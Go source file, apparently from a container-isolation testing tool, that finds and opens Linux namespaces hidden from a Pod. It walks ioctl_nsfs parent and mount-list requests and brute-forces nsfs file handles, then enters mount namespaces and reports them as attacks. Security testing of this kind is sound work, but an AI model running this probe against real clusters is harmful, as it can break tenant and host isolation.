package main

import (
	"encoding/binary"
	"fmt"
	"os"
	"path/filepath"
	"strings"
	"sync"
	"unsafe"

	"golang.org/x/sys/unix"
)

// Requests of ioctl_nsfs(2).
const (
	nsGetUserNS  = 0xb701
	nsGetParent  = 0xb702
	nsMountsNext = 2<<30 | 16<<16 | 0xb7<<8 | 11
	nsMountsPrev = 2<<30 | 16<<16 | 0xb7<<8 | 12
)

// knownNamespaces are those of the processes that the Pod sees, by name; the values
// are paths of one process that is in each.
func knownNamespaces() map[string]string {
	known := map[string]string{}
	for _, pid := range append(processes(), os.Getpid()) {
		links, _ := filepath.Glob(fmt.Sprintf("/proc/%d/ns/*", pid)) // it may have ended
		for _, link := range links {
			if name, err := os.Readlink(link); err == nil {
				known[name] = link
			}
		}
	}
	return known
}

// hiddenNamespaces opens namespaces in which the Pod sees no process, by their
// names: owners and parents of those that it sees, neighbours in the kernel's list
// of mount namespaces, and whatever a file handle names, of which the first and the
// latest numbers are tried.
var hiddenNamespaces = sync.OnceValue(func() map[string]int {
	known, hidden := knownNamespaces(), map[string]int{}
	var climb func(fd int)
	climb = func(fd int) {
		name, err := os.Readlink(fmt.Sprintf("/proc/self/fd/%d", fd))
		if err != nil || hidden[name] != 0 {
			unix.Close(fd)
			return
		}
		if known[name] == "" {
			hidden[name] = fd
		}
		for _, request := range []uintptr{nsGetUserNS, nsGetParent, nsMountsNext, nsMountsPrev} {
			if strings.HasPrefix(name, "mnt:") == (request == nsGetParent) {
				continue // those have no parents, and only those are in a list
			}
			var info [16]byte // struct mnt_ns_info, which is filled in
			r, _, errno := unix.Syscall(unix.SYS_IOCTL, uintptr(fd), request, uintptr(unsafe.Pointer(&info)))
			if errno != 0 {
				continue
			}
			other := int(r)
			name, err := os.Readlink(fmt.Sprintf("/proc/self/fd/%d", other))
			if err != nil || known[name] != "" && request != nsMountsNext && request != nsMountsPrev || seen[name] {
				unix.Close(other)
				continue
			}
			seen[name] = true
			climb(other)
		}
	}
	for _, link := range known {
		if fd, err := unix.Open(link, unix.O_RDONLY|unix.O_CLOEXEC, 0); err == nil {
			climb(fd)
		}
	}
	for _, number := range namespaceNumbers() {
		if fd, err := openNamespace(number); err == nil {
			climb(fd)
		}
	}
	return hidden
})

// seen are the namespaces that were climbed from.
var seen = map[string]bool{}

// namespaceNumbers are the kernel's serial numbers to try: the first ones, and those
// around the Pod's own namespaces.
func namespaceNumbers() []uint64 {
	const around = 20_000
	var numbers []uint64
	for n := range uint64(64) {
		numbers = append(numbers, n+1)
	}
	handle, _, err := unix.NameToHandleAt(unix.AT_FDCWD, "/proc/self/ns/mnt", unix.AT_SYMLINK_FOLLOW)
	if err != nil || handle.Size() < 16 {
		return numbers
	}
	own := binary.NativeEndian.Uint64(handle.Bytes())
	for n := own - min(around, own-1); n < own+around; n++ {
		numbers = append(numbers, n)
	}
	return numbers
}

// openNamespace opens a namespace by its serial number, whatever its type: by a file
// handle of nsfs, as include/uapi/linux/nsfs.h has it.
func openNamespace(number uint64) (int, error) {
	const (
		root       = -10003 // FD_NSFS_ROOT
		fileIDNsfs = 0xf1
	)
	id := make([]byte, 16) // struct nsfs_file_handle: number, type, inode
	binary.NativeEndian.PutUint64(id, number)
	return unix.OpenByHandleAt(root, unix.NewFileHandle(fileIDNsfs, id), unix.O_RDONLY|unix.O_CLOEXEC)
}

// attackNamespaces reports the namespaces that were opened though no process that
// the Pod sees is in them.
func attackNamespaces([]string) error {
	for name, fd := range hiddenNamespaces() {
		done := []string{"opened"}
		if strings.HasPrefix(name, "mnt:") {
			s := space{name: name, fd: fd}
			if err := s.inCopy(func(string) error { return nil }); err == nil {
				done = append(done, "entered")
			}
		}
		report(result{Attack: "namespaces", Where: name, Done: done})
	}
	report(result{Attack: "namespaces", Count: len(knownNamespaces()) + len(namespaceNumbers())})
	return nil
}
